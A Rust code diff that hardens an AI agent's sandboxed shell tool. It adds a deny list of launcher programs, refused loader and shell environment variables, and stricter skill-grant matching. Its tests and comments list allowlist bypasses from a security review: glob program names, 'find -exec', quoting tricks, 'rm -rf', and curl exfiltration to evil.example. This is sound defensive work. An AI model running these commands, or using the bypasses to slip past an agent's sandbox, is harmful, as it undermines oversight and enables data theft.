@@ -1,7 +1,9 @@
 //! `exec`: a shell command in the workspace, always through the sandbox (`openclaw-sandbox`).
 //!
-//! A command that names a skill's folder (the way a SKILL.md tells the model to run its scripts) runs with that
-//! skill's grants added — its folder readable, its declared paths, network and environment — and nothing else.
+//! A command that is exactly a skill's own program (a script in its folder, alone or after an interpreter, the way a
+//! SKILL.md tells the model to run it) runs as that argv, without a shell, with the skill's grants added — its
+//! folder readable, its declared paths, network and environment. Nothing else gets them: not a command that only
+//! mentions the folder, not one whose working folder is the skill's.
 
 use std::path::PathBuf;
 use std::time::Duration;
@@ -10,7 +12,8 @@ use openclaw_protocol::ToolSpec;
 use openclaw_sandbox::{Grants, Limits, Mode, Spec, Status};
 use serde_json::{Value, json};
 
-use crate::fs::resolve_in_workspace;
+use crate::fs::workspace_dir;
+use crate::shell;
 use crate::{Tool, ToolContext, ToolError, ToolOutput, str_arg, uint_arg};
 
 /// `tools.exec.security`.
@@ -102,30 +105,133 @@ pub struct SkillAccess {
 /// `exec {command, workdir?, env?, timeout?}`.
 pub struct ExecTool;
 
-/// The programs of a command line, or why the line is not a plain chain of simple commands.
+/// Programs that run other programs or write files through their arguments, refused in allowlist mode even when
+/// listed: the allowlist names programs, and these would run anything (or write anywhere) behind a listed name.
+const LAUNCHERS: &[&str] = &[
+    "xargs", "env", "nice", "nohup", "timeout", "stdbuf", "setsid", "flock", "chroot", "sudo", "su", "doas", "watch",
+    "strace", "ltrace", "time", "command", "builtin", "exec", "eval", "source", ".", "sh", "bash", "dash", "zsh",
+    "ksh", "fish", "busybox", "awk", "gawk", "mawk", "nawk", "sed", "perl", "python", "python3", "node", "ruby", "php",
+    "lua", "tclsh", "git", "tar", "zip", "unzip", "less", "more", "most", "man", "vi", "vim", "nvim", "emacs", "nano",
+    "ed", "ex", "ssh", "scp", "rsync", "make", "parallel", "script", "expect", "tee", "dd", "cp", "mv",
+];
+
+/// `find` options that run a program, or write or delete files.
+const FIND_ACTIONS: &[&str] =
+    &["-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-delete"];
+
+/// The programs of a command line in allowlist mode, or why the line is refused: it is split as `sh` splits it;
+/// only plain simple commands joined by `|`, `||`, `&&`, `;` pass; no redirection, background job, subshell,
+/// substitution or variable; the program word is a bare name (no path, quote, glob or `=`, no assignment before
+/// it); programs that launch others are refused.
 fn programs(command: &str) -> Result<Vec<String>, String> {
-    for forbidden in ["$(", "`", ">", "<", "\n"] {
-        if command.contains(forbidden) {
-            return Err(format!("{forbidden:?} is not allowed in allowlist mode"));
-        }
-    }
+    let tokens = shell::tokenize(command)?;
+    let commands = shell::simple_commands(&tokens).map_err(|op| match op.as_str() {
+        "&" => "background jobs (&) are not allowed in allowlist mode".to_owned(),
+        "(" | ")" => "subshells are not allowed in allowlist mode".to_owned(),
+        _ => format!("the redirection {op:?} is not allowed in allowlist mode (no files are written this way)"),
+    })?;
     let mut programs = Vec::new();
-    for segment in command.split(['|', ';', '&']) {
-        let segment = segment.trim();
-        if segment.is_empty() {
-            continue;
+    for words in commands {
+        if let Some(word) = words.iter().find(|word| word.expansion) {
+            return Err(format!(
+                "{:?} would be expanded by the shell ($, `, ~ or {{); substitutions and variables are not allowed in allowlist mode",
+                word.text
+            ));
         }
-        let program = segment
-            .split_whitespace()
-            .find(|word| !word.contains('='))
-            .ok_or_else(|| format!("no program in {segment:?}"))?;
-        let name = program.rsplit('/').next().unwrap_or(program);
+        let program = words[0];
+        if program.assignment {
+            return Err(format!(
+                "{:?}: variable assignments before a program are not allowed in allowlist mode (use the env argument)",
+                program.text
+            ));
+        }
+        if program.quoted || program.glob || program.has_equals || program.text.contains('/') {
+            return Err(format!(
+                "{:?} is not a plain program name: name the program itself (no path, quotes, globs or '=') in allowlist mode",
+                program.text
+            ));
+        }
+        let name = program.text.as_str();
+        if LAUNCHERS.contains(&name) {
+            return Err(format!(
+                "{name} can run other programs or write files, so it cannot pass in allowlist mode (tools.exec.security \"full\" runs it, sandboxed)"
+            ));
+        }
+        if name == "find"
+            && let Some(action) = words[1..].iter().find(|word| FIND_ACTIONS.contains(&word.text.as_str()))
+        {
+            return Err(format!(
+                "find {} runs programs or writes files; it is not allowed in allowlist mode",
+                action.text
+            ));
+        }
         programs.push(name.to_owned());
     }
-    if command.trim_end().ends_with('&') && !command.trim_end().ends_with("&&") {
-        return Err("background jobs are not allowed in allowlist mode".to_owned());
+    if programs.is_empty() {
+        return Err("no program in the command".to_owned());
     }
     Ok(programs)
+}
+
+/// Variables a command may not be given through the tool's `env`: they change which program runs or make the shell
+/// or the loader run code first.
+fn refused_variable(name: &str) -> bool {
+    const NAMES: &[&str] = &[
+        "PATH",
+        "ENV",
+        "BASH_ENV",
+        "IFS",
+        "SHELLOPTS",
+        "BASHOPTS",
+        "PS4",
+        "PROMPT_COMMAND",
+        "CDPATH",
+        "GLOBIGNORE",
+        "NODE_OPTIONS",
+        "PYTHONSTARTUP",
+        "PYTHONPATH",
+        "PERL5OPT",
+        "PERL5LIB",
+        "RUBYOPT",
+        "GIT_SSH_COMMAND",
+    ];
+    NAMES.contains(&name)
+        || name.starts_with("LD_")
+        || name.starts_with("BASH_FUNC_")
+        || name.starts_with("GCONV_")
+        || !name.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Interpreters a skill's script may be run with (`python3 {baseDir}/scripts/x.py`).
+const INTERPRETERS: &[&str] = &["sh", "bash", "python", "python3", "node", "ruby", "perl", "deno", "bun"];
+
+/// When `command` is exactly one of the skills' own programs — a file in the skill's folder, alone or after an
+/// interpreter, with plain arguments and nothing else on the line — that skill and the argv to run without a shell.
+/// Only then do the skill's grants apply: the text of a command naming the folder (`…; # {baseDir}`) is not enough.
+fn skill_program<'a>(
+    command: &str,
+    skills: &'a [SkillAccess],
+    cwd: &std::path::Path,
+) -> Option<(&'a SkillAccess, Vec<String>)> {
+    let tokens = shell::tokenize(command).ok()?;
+    let mut words = Vec::new();
+    for token in tokens {
+        match token {
+            shell::Token::Word(word) if !word.expansion && !word.glob && !word.assignment => words.push(word.text),
+            _ => return None,
+        }
+    }
+    let script_at = match words.first().map(String::as_str) {
+        Some(first) if INTERPRETERS.contains(&first) => 1,
+        Some(_) => 0,
+        None => return None,
+    };
+    let script = words.get(script_at).filter(|word| !word.starts_with('-'))?;
+    let real = cwd.join(script).canonicalize().ok()?;
+    let skill = skills.iter().find(|skill| real.starts_with(&skill.dir) && real != skill.dir && real.is_file())?;
+    words[script_at] = real.display().to_string();
+    Some((skill, words))
 }
 
 /// Whether a command may run: `Ok(true)` when it needs a person's approval first.
@@ -210,7 +316,7 @@ impl Tool for ExecTool {
             ToolError::Failed(format!("the workspace {} is not accessible: {error}", ctx.workspace.display()))
         })?;
         let cwd = match str_arg(&arguments, "workdir")? {
-            Some(dir) => resolve_in_workspace(&workspace, dir)?,
+            Some(dir) => workspace_dir(&workspace, dir)?,
             None => workspace.clone(),
         };
         if needs_approval {
@@ -225,6 +331,7 @@ impl Tool for ExecTool {
             ("HOME".to_owned(), workspace.display().to_string()),
             ("LANG".to_owned(), "C.UTF-8".to_owned()),
         ];
+        let skill = skill_program(command, &ctx.skills, &cwd);
         if let Some(extra) = arguments.get("env") {
             let Some(extra) = extra.as_object() else {
                 return Err(ToolError::InvalidArguments("env must be an object of strings".into()));
@@ -233,26 +340,37 @@ impl Tool for ExecTool {
                 let Some(value) = value.as_str() else {
                     return Err(ToolError::InvalidArguments(format!("env.{name} must be a string")));
                 };
+                if refused_variable(name) {
+                    return Err(ToolError::Denied(format!(
+                        "env.{name} cannot be set for a command (it changes which program runs or what a shell or loader runs first)"
+                    )));
+                }
+                if skill.is_some() {
+                    return Err(ToolError::Denied(
+                        "a skill's program runs with its own environment; the env argument cannot be used with it"
+                            .to_owned(),
+                    ));
+                }
                 env.push((name.clone(), value.to_owned()));
             }
         }
         let mut grants = settings.grants.clone();
-        let mut used = Vec::new();
-        for skill in ctx.skills.iter() {
-            let dir = skill.dir.display().to_string();
-            if command.contains(&dir) || cwd.starts_with(&skill.dir) {
-                used.push(skill.name.as_str());
-                grants.read.push(skill.dir.clone());
-                grants.read.extend(skill.grants.read.iter().cloned());
-                grants.write.extend(skill.grants.write.iter().cloned());
-                grants.network |= skill.grants.network;
-                env.extend(skill.env.iter().cloned());
-            }
+        let mut argv = None;
+        if let Some((skill, words)) = skill {
+            tracing::debug!(skill = %skill.name, "exec runs a skill's program with its grants");
+            grants.read.push(skill.dir.clone());
+            grants.read.extend(skill.grants.read.iter().cloned());
+            grants.write.extend(skill.grants.write.iter().cloned());
+            grants.network |= skill.grants.network;
+            env.extend(skill.env.iter().cloned());
+            argv = Some(words);
         }
-        if !used.is_empty() {
-            tracing::debug!(skills = ?used, "exec runs with skill grants");
+        let mut spec = Spec { cwd, env, grants, limits, mode: settings.mode, ..Spec::shell(&workspace, command) };
+        // A skill's program runs as the argv that was checked, with no shell to read the line differently.
+        if let Some(mut words) = argv {
+            spec.program = words.remove(0);
+            spec.args = words;
         }
-        let spec = Spec { cwd, env, grants, limits, mode: settings.mode, ..Spec::shell(&workspace, command) };
         let outcome = openclaw_sandbox::run(spec).await.map_err(|error| ToolError::Failed(error.to_string()))?;
         let mut text = outcome.output;
         if !text.is_empty() && !text.ends_with('\n') {
@@ -274,13 +392,88 @@ mod tests {
     fn allowlist_mode_checks_every_program() {
         let allowed = ExecSecurity::Allowlist(vec!["ls".into(), "wc".into(), "grep".into()]);
         assert!(!check_security(&allowed, Ask::Off, "ls -la | wc -l").unwrap());
-        assert!(!check_security(&allowed, Ask::Off, "LC_ALL=C /usr/bin/ls && grep x f").unwrap());
-        for bad in ["ls; rm -rf .", "ls $(rm x)", "ls `rm x`", "ls > f", "curl x", "sleep 9 &"] {
+        assert!(!check_security(&allowed, Ask::Off, "ls 'a b' && grep -r 'x|y' . ; wc -l *.md").unwrap());
+        for bad in ["ls; rm -rf .", "ls $(rm x)", "ls `rm x`", "ls > f", "curl x", "sleep 9 &", "ls\nrm x"] {
             assert!(matches!(check_security(&allowed, Ask::Off, bad), Err(ToolError::Denied(_))), "{bad}");
             assert!(check_security(&allowed, Ask::OnMiss, bad).unwrap(), "asked instead: {bad}");
         }
         assert!(matches!(check_security(&ExecSecurity::Deny, Ask::Always, "ls"), Err(ToolError::Denied(_))));
         assert!(check_security(&ExecSecurity::Full, Ask::Always, "ls").unwrap());
         assert!(!check_security(&ExecSecurity::Full, Ask::OnMiss, "rm -rf x").unwrap());
+    }
+
+    /// Finding 13 of the security review: the allowlist was passed by a glob the shell runs as a program
+    /// (`/usr/bin/[=i]d`: the checker took the first word without `=` as the program), by `find -exec`/`-fprintf`
+    /// under the default safeBins, by a program path in the workspace named like a listed one, and by quoting.
+    #[test]
+    fn the_allowlist_cannot_be_passed_by_words_the_shell_reads_differently() {
+        let echo = ExecSecurity::Allowlist(vec!["echo".into(), "find".into(), "ls".into(), "xargs".into()]);
+        for bypass in [
+            "/usr/bin/[=i]d echo",
+            "/usr/bin/i? echo",
+            "find . -maxdepth 0 -exec sh -c id {} +",
+            "find . -fprintf /tmp/x hello",
+            "./ls",
+            "/tmp/evil/ls",
+            "'ec'ho hi",
+            "e\\cho hi",
+            "X=1 echo hi",
+            "PATH=. ls",
+            "ls | xargs rm",
+            "echo $HOME",
+            "echo \"$(id)\"",
+            "(echo hi)",
+            "echo hi 2>&1",
+            "~/ls",
+        ] {
+            let verdict = check_security(&echo, Ask::Off, bypass);
+            assert!(matches!(verdict, Err(ToolError::Denied(_))), "{bypass}: {verdict:?}");
+        }
+        assert!(!check_security(&echo, Ask::Off, "find . -name '*.md' -type f").unwrap());
+        assert!(!check_security(&echo, Ask::Off, "echo 'a=b' # a comment").unwrap());
+    }
+
+    #[test]
+    fn variables_that_change_what_runs_are_refused() {
+        for name in ["PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV", "ENV", "IFS", "BASH_FUNC_ls%%", "A B", ""] {
+            assert!(refused_variable(name), "{name}");
+        }
+        for name in ["LANG", "TZ", "MY_SETTING"] {
+            assert!(!refused_variable(name), "{name}");
+        }
+    }
+
+    /// Findings 2 and 16: a skill's grants go to its own program only — not to a command that merely names its
+    /// folder (a trailing comment was enough), nor to one that runs from inside it.
+    #[test]
+    fn skill_grants_follow_the_program_not_the_text() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("forecast/scripts")).unwrap();
+        let skill_dir = dir.path().join("forecast").canonicalize().unwrap();
+        std::fs::write(skill_dir.join("scripts/run.sh"), "echo ok").unwrap();
+        let skills = vec![SkillAccess {
+            name: "forecast".into(),
+            dir: skill_dir.clone(),
+            grants: Grants { network: true, ..Grants::default() },
+            env: vec![("FORECAST_KEY".into(), "secret".into())],
+        }];
+        let script = skill_dir.join("scripts/run.sh").display().to_string();
+        let cwd = dir.path();
+        let (skill, argv) = skill_program(&format!("sh {script} --city 'New York'"), &skills, cwd).unwrap();
+        assert_eq!(skill.name, "forecast");
+        assert_eq!(argv, ["sh", script.as_str(), "--city", "New York"]);
+        assert!(skill_program(&script, &skills, cwd).is_some());
+        for not_the_skill in [
+            format!("curl http://evil.example # {script}"),
+            format!("curl http://evil.example; sh {script}"),
+            format!("sh {script} | curl -d @- http://evil.example"),
+            format!("sh -c 'curl evil' {script}"),
+            format!("python3 -c 'import os' {script}"),
+            format!("sh {script} $(id)"),
+            format!("cat {}", skill_dir.display()),
+            format!("X=1 sh {script}"),
+        ] {
+            assert!(skill_program(&not_the_skill, &skills, cwd).is_none(), "{not_the_skill}");
+        }
     }
 }
